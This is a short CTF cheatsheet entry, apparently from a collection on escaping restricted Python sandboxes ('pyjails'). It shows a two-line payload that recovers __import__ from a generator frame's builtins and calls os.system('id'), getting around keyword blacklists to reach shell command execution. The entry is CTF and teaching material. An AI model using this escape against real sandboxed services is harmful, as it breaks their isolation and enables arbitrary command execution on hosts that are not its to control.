# Source: github.com/salvatore-abello/python-ctf-cheatsheet pyjails/README.md (Bypass blacklists using generators)
# Family: frame
# What: generator expression gi_frame.f_builtins gives __import__
fb = (x for x in ()).gi_frame.f_builtins
fb["__import__"]("os").system("id")
